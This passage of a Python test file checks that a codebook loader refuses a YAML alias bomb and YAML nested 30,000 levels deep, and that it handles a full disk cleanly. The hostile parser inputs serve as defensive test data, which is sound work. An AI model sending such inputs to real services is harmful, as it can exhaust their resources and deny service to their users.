    assert raised.value.errno == errno.ENOSPC
    assert str(tmp_path / "tables") in str(raised.value) and ".csv" in str(raised.value)
    assert list((tmp_path / "tables").iterdir()) == []


def test_a_codebook_with_nested_yaml_aliases_is_refused_unexpanded(tmp_path):
    aliases = hostile_files.yaml_alias_bomb(tmp_path, levels=9, suffix=".txt").read_text(encoding="utf-8")
    path = tmp_path / "codebook.yaml"
    path.write_text(aliases.split("---")[1].replace("title:", "name:"), encoding="utf-8")
    with pytest.raises(CodebookError, match=r"codebook.yaml' is not read: it uses a YAML alias \(\*a\)"):
        Codebook.from_file(path)


def test_a_codebook_nested_thirty_thousand_levels_deep_is_refused(tmp_path):
    path = tmp_path / "codebook.yml"
    path.write_text(f"tags: {'[' * 30_000}{']' * 30_000}\n", encoding="utf-8")
    with pytest.raises(CodebookError, match="nests lists or mappings more than 6 levels deep"):
        Codebook.from_file(path)


def test_the_default_codebook_is_within_the_yaml_limits():
    assert len(Codebook.default().tags) >= 9
